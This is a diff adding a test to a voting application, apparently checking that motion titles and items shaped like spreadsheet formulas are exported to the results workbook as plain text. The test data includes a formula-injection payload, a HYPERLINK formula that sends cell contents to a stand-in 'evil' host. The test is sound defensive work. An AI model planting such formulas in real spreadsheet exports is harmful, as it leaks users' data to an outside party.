@@ -230,6 +230,26 @@ def test_the_counts_download_as_a_workbook(client, sign_in, sitting, closed_vote
     assert any(str(r[1]).startswith("An item passes with yes votes") for r in rows if r[0])
 
 
+def test_a_title_that_looks_like_a_formula_is_exported_as_text(client, sign_in, sitting):
+    formula = '=HYPERLINK("http://evil/?"&A1,"x")'
+    ops.open_session(sitting.session, sitting.secretary)
+    check_in(sitting, TOTAL)
+    motion = ops.create_motion(
+        sitting.session, sitting.secretary, title=formula, items=[("+1+1", ""), ("@SUM(A1)", "")]
+    )
+    ops.open_voting(motion, sitting.secretary)
+    ops.close_voting(motion, sitting.secretary)
+    db.session.commit()
+    sign_in(sitting.delegates[0])
+
+    response = client.get(f"/motions/{motion.id}/results.xlsx")
+
+    sheet = load_workbook(BytesIO(response.data)).active
+    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
+    assert cells[formula] == cells["+1+1"] == cells["@SUM(A1)"] == "s"
+    assert "f" not in cells.values()
+
+
 def pdf_text(data: bytes) -> str:
     return "".join(page.extract_text() for page in PdfReader(BytesIO(data)).pages)
 
